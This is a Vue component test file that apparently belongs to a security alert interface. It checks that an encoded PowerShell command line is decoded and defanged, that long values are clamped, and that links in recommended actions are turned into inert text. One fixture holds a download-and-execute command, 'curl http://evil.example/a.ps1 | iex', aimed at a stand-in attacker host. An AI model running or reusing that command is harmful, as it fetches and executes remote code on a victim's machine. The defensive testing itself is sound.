import { mount } from '@vue/test-utils';
import { createPinia } from 'pinia';
import { describe, expect, it } from 'vitest';
import { clientProvision } from '../../../client/index.ts';
import { createMockClient } from '../../../client/mock/index.ts';
import CommandLine from './CommandLine.vue';
import RecommendedActions from './RecommendedActions.vue';

const global = { plugins: [createPinia()], provide: clientProvision(createMockClient({}).client) };

describe('CommandLine', () => {
  it('shows what is encoded beside it, as text that leads nowhere', async () => {
    const wide = 'curl http://evil.example/a.ps1 | iex'.replace(/./g, '$&\0');
    const wrapper = mount(CommandLine, {
      props: { value: `powershell -enc ${btoa(wide)} ${'x '.repeat(200)}` },
      global,
    });
    expect(wrapper.find('.decoded').text()).toContain('decoded');
    expect(wrapper.find('.decoded .value').text()).toBe('curl hxxp://evil[.]example/a.ps1 | iex');
    expect(wrapper.find('a').exists()).toBe(false);
    const more = wrapper.find('button.more');
    expect(more.attributes('aria-expanded')).toBe('false');
    expect(wrapper.find('.clamped').exists()).toBe(true);
    await more.trigger('click');
    expect(wrapper.find('.clamped').exists()).toBe(false);
  });
});

describe('RecommendedActions', () => {
  it('keeps lists and makes no link of an address', () => {
    const wrapper = mount(RecommendedActions, {
      props: { text: 'Do:\n1. Read <a href="https://docs.example/x">the guide</a>.\n2. Isolate.' },
      global,
    });
    expect(wrapper.findAll('li').map((item) => item.text())).toEqual([
      '1. Read the guide (hxxps://docs[.]example/x).',
      '2. Isolate.',
    ]);
    expect(wrapper.find('a').exists()).toBe(false);
  });
});
